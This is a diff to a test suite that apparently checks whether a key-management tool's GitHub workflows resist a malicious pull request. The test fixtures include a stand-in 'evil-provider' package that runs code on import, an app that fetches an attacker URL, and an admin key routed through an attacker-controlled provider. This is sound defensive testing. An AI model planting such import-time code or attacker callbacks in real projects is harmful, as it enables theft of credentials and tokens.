@@ -114,7 +114,7 @@ describe('the example workflows, run as GitHub runs them', () => {
       await r.ws.writeFile('node_modules/evil-provider/index.js', `import { writeFileSync } from 'node:fs';\nwriteFileSync(${marker}, 'package');\nexport default { keyplanProviderApi: 1 };\n`);
       await r.ws.writeFile('app.mjs', `import { writeFileSync } from 'node:fs';\nwriteFileSync(${marker}, 'app');\nawait fetch(${JSON.stringify(attacker.url)});\n`);
       await r.ws.writeKeysYaml({
-        ...config(attacker.url, [{ name: 'Billing_Reader', roles: ['ADMIN'], expires: 'never', deliver: [toFile('BILLING_READER')] }]),
+        ...config(attacker.url, [{ name: 'Billing_Reader', roles: ['ADMIN'], expires: 'never', provider: 'prod', deliver: [toFile('BILLING_READER')] }]),
         providers: { prod: httpProvider(attacker.url, 'KEYPLAN_TOKEN'), extra: { type: 'package', package: 'evil-provider', options: {} } },
       });
       // A pull request runs its own version of the workflow: it asks for its program, and claims another pull request.
